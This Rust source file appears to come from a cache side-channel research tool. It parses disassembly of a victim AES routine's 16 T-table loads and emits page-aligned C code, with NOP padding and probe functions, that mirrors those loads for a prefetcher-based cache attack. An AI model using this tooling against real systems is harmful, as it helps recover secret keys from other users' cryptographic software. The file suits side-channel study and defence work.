//! Aligned code synthesis for the victim's table lookups.
//!
//! The victim AES routine performs 16 table loads. For the prefetcher-based
//! probe to target specific cache lines, an equivalent instruction sequence is
//! generated in which each load lands at the same page offset as the original
//! one. Targets are placed greedily, nearest first, with no-op padding filling
//! the gaps; offsets that cannot be reached on the current page are pushed to
//! the next one. The emitted listing is C source built from opaque padding and
//! access functions that the compiler must not reorder, with the first padding
//! function pinned to a page boundary so all later offsets are absolute.

use itertools::Itertools;

use crate::error::Error;

pub const PAGE_SIZE: u64 = 4096;

/// A64 instructions are fixed width; padding must be a whole number of these.
pub const INSTRUCTION_SIZE: u64 = 4;

/// Body length of an emitted access function, in bytes (15 instructions).
pub const ACCESS_LEN: u64 = 15 * INSTRUCTION_SIZE;

/// Byte offset of the load inside an access function body. Consecutive loads
/// must be at least this far apart.
pub const LOAD_OFFSET: u64 = 7 * INSTRUCTION_SIZE;

/// Number of table loads in the victim routine: 4 tables, 4 accesses each.
pub const TARGET_COUNT: usize = 16;

/// One load instruction to reproduce, reduced to its page offset.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TargetPosition {
    /// `FT<table>_<access>` identifier of the load.
    pub label: String,
    /// Original instruction address modulo [`PAGE_SIZE`].
    pub offset: u64,
}

impl TargetPosition {
    pub fn new(label: impl Into<String>, address: u64) -> Self {
        Self {
            label: label.into(),
            offset: address % PAGE_SIZE,
        }
    }
}

/// One emitted code unit.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LayoutFunction {
    /// No-op filler of `bytes` length, including its terminating `ret`.
    Padding {
        label: String,
        bytes: u64,
        /// Exactly one padding function anchors the sequence to a page
        /// boundary; every later offset is relative to it.
        page_aligned: bool,
    },
    /// Load / fence / probe block reproducing one victim load.
    Access { label: String },
}

impl LayoutFunction {
    pub fn name(&self) -> String {
        match self {
            Self::Padding { label, .. } => format!("padding_{label}"),
            Self::Access { label } => format!("access_{label}"),
        }
    }

    /// Emitted byte length of the function body including its `ret`.
    pub fn len_bytes(&self) -> u64 {
        match self {
            Self::Padding { bytes, .. } => *bytes,
            Self::Access { .. } => ACCESS_LEN,
        }
    }

    fn signature(&self) -> String {
        match self {
            Self::Padding {
                bytes,
                page_aligned,
                ..
            } => {
                let mut signature = format!("void {}(void)", self.name());
                if *page_aligned {
                    signature.push_str(" __attribute__((aligned(4096)))");
                }
                signature.push_str(&format!(" /* ({bytes}B) */"));
                signature
            }
            Self::Access { .. } => format!("void {}(uint8_t* ptr_access)", self.name()),
        }
    }

    /// Renders the function as C source.
    pub fn source(&self) -> String {
        let mut out = format!("{} {{\n", self.signature());
        match self {
            Self::Padding { bytes, .. } => {
                // One instruction slot is taken by the mandatory ret; the rest
                // decomposes into power-of-two NOP blocks.
                let mut remaining = bytes / INSTRUCTION_SIZE - 1;
                let mut block = 1u64;
                while remaining > 0 {
                    if remaining & 1 != 0 {
                        out.push_str(&format!("\tNOP{block}\n"));
                    }
                    remaining >>= 1;
                    block <<= 1;
                }
            }
            Self::Access { .. } => {
                out.push_str("\tmaccess(ptr_access);\n");
                out.push_str("\tmfence();\n");
                out.push_str("\tcache_query();\n");
            }
        }
        out.push_str("}\n");
        out
    }
}

/// Extracts the 16 load addresses from objdump-style disassembly text.
///
/// Qualifying lines look like
/// `   11a4bc: b86178a2  ldr w2, [x5, w1, uxtw #2]`:
/// a hex address, the raw encoding, an `ldr` with an `uxtw`-extended index
/// operand. Scanning stops at 16 matches; fewer is an error.
pub fn extract_load_addresses(disasm: &str) -> Result<Vec<u64>, Error> {
    let addresses: Vec<u64> = disasm.lines().filter_map(parse_load_line).take(TARGET_COUNT).collect();
    if addresses.len() < TARGET_COUNT {
        return Err(Error::NotEnoughLoads {
            found: addresses.len(),
            expected: TARGET_COUNT,
        });
    }
    Ok(addresses)
}

fn parse_load_line(line: &str) -> Option<u64> {
    let (address, rest) = line.trim_start().split_once(':')?;
    let address = u64::from_str_radix(address, 16).ok()?;

    let mut fields = rest.split_whitespace();
    u64::from_str_radix(fields.next()?, 16).ok()?;
    if fields.next()? != "ldr" {
        return None;
    }
    rest.contains("uxtw").then_some(address)
}

/// Labels extracted addresses in disassembly order: address `i` is access
/// `i / 4` with table `i % 4` (the four tables are interleaved per round
/// step), producing `FT<table>_<access>` names.
pub fn target_positions(addresses: &[u64]) -> Vec<TargetPosition> {
    addresses
        .iter()
        .enumerate()
        .map(|(i, &address)| TargetPosition::new(format!("FT{}_{}", i % 4, i / 4), address))
        .collect()
}

/// Greedily lays out all targets, returning padding and access functions in
/// emission order.
///
/// Targets are sorted by page offset; at each step the candidate reachable
/// with the least forward distance is placed, scanning cyclically from just
/// after the previous pick and pushing each candidate's offset up by whole
/// pages until it clears the minimum load spacing. Output is deterministic in
/// the input set, regardless of input order.
pub fn synthesize(targets: Vec<TargetPosition>) -> Result<Vec<LayoutFunction>, Error> {
    let mut pending: Vec<TargetPosition> = targets
        .into_iter()
        .sorted_by(|a, b| a.offset.cmp(&b.offset).then_with(|| a.label.cmp(&b.label)))
        .collect();

    let mut functions = Vec::new();
    let mut position: u64 = 0;
    let mut index: Option<usize> = None;

    while !pending.is_empty() {
        let next = select_next(&pending, index, position);
        let target = pending.remove(next);
        // after removal the index already points past the removed element
        index = Some(next);

        let mut effective = target.offset;
        while effective < position + LOAD_OFFSET {
            effective += PAGE_SIZE;
        }

        let padding = effective - position - LOAD_OFFSET;
        if padding > 0 {
            if padding % INSTRUCTION_SIZE != 0 {
                return Err(Error::PaddingAlignment {
                    label: target.label,
                    bytes: padding,
                });
            }
            functions.push(LayoutFunction::Padding {
                label: target.label.clone(),
                bytes: padding,
                page_aligned: false,
            });
        }
        functions.push(LayoutFunction::Access {
            label: target.label,
        });
        position += padding + ACCESS_LEN;
    }

    // The first padding function anchors the whole sequence to a page
    // boundary; everything after it is positioned by the walk above.
    for function in &mut functions {
        if let LayoutFunction::Padding { page_aligned, .. } = function {
            *page_aligned = true;
            break;
        }
    }

    Ok(functions)
}

/// Picks the pending target whose effective offset is closest ahead of
/// `position`, scanning cyclically from `index`. The first candidate in scan
/// order wins ties. The very first pick is the lowest offset.
fn select_next(pending: &[TargetPosition], index: Option<usize>, position: u64) -> usize {
    let Some(index) = index else {
        return 0;
    };

    let min_next_load = position + LOAD_OFFSET;
    let mut best_distance = u64::MAX;
    let mut best_index = 0;
    for i in 0..pending.len() {
        let candidate = (index + i) % pending.len();
        let mut offset = pending[candidate].offset;
        while offset < min_next_load {
            offset += PAGE_SIZE;
        }
        let distance = offset - position;
        if distance < best_distance {
            best_distance = distance;
            best_index = candidate;
        }
    }
    best_index
}

/// Renders the full generated listing, one blank line after every function.
pub fn render(functions: &[LayoutFunction]) -> String {
    functions
        .iter()
        .map(|function| function.source() + "\n")
        .collect()
}
